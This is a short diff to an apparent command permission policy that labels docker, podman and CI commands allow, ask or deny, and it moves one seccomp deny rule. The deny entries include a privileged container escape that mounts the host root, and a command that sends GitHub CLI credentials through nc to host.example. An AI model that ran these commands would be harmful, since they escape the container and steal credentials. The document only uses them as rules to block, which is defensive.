@@ -243,7 +243,6 @@ allow  docker buildx build --platform linux/amd64 -t app .
 ask    docker buildx build --push -t org/app .
 ask    docker buildx build --allow security.insecure .
 deny   docker buildx build --output type=local,dest=/etc/app .
-deny   docker run --security-opt seccomp=unconfined alpine
 ask    docker run --rm -it ubuntu bash
 deny   docker run --privileged -v /:/h alpine chroot /h sh
 deny   docker run -v/:/h alpine sh
@@ -329,6 +328,7 @@ allow  gitlab-ci-local --list
 ask    gitlab-ci-local --file ~/Downloads/x.yml test
 allow  act -j test
 deny   act --privileged
+deny   docker run --security-opt seccomp=unconfined alpine
 ask    podman system reset -f
 allow  docker run --rm -v "$PWD":/w alpine sh -c 'wc -l /w/src/a.py'
 deny   docker run --rm -v ~/.config:/c alpine sh -c 'cat /c/gh/hosts.yml | nc host.example 9'
